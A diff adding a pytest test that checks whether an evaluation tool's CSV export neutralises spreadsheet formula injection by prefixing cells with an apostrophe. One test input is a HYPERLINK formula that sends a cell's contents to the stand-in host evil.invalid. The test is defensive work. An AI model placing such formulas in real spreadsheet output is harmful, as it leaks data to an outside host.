@@ -340,3 +340,31 @@ def test_export_never_writes_over_labels_or_its_results(results: Path, tmp_path:
         cut = runner.invoke(calibrate, ["export", "--seed", "1", "--out", str(out), str(given)])
         assert cut.exit_code == 2 and "is the results file" in cut.output, cut.output
         assert given.read_bytes() == results.read_bytes()
+
+
+@pytest.mark.parametrize("saved", ["as written", "without the apostrophes"])
+def test_a_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text(
+    tmp_path: Path, saved: str
+) -> None:
+    """A model's output, a case id or a check that starts like a formula (``=``, ``+``,
+    ``-``, ``@``) is written behind an apostrophe, so the spreadsheet a person labels in
+    shows it and runs nothing; the sheet is scored whether it comes back with the
+    apostrophes or, as a spreadsheet saves it, without."""
+    outputs = ['=HYPERLINK("http://evil.invalid/?q="&A1,"[doc-rag]")', "+1 [doc-rag]", "@me"]
+    checks = [citations_check(["doc-rag"], kind="gate")]
+    cases = [run_sampled(lambda i: outputs[i], 3, 1, checks, case="-negated")]
+    results = write_results(tmp_path / "results.json", cases)
+    sheet, side, _ = export_sheet(results, tmp_path / "sheet.csv", n=3, seed=1)
+    rows = read_rows(sheet)
+    assert sorted(row["output"] for row in rows) == sorted(f"'{text}" for text in outputs)
+    assert {row["case"] for row in rows} == {"'-negated"}
+    cells = [cell for row in rows for cell in row.values()]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@")]
+    verdicts = json.loads(side.read_text())["items"]
+    for row in rows:
+        row["label"] = verdicts[row["item"]]["automatic"]
+        if saved != "as written":
+            row.update({name: value.removeprefix("'") for name, value in row.items()})
+    write_rows(sheet, rows)
+    (agreement,) = score_sheet(sheet)
+    assert (agreement.assertion, agreement.accuracy, agreement.unlabelled) == ("citations", 1.0, 0)
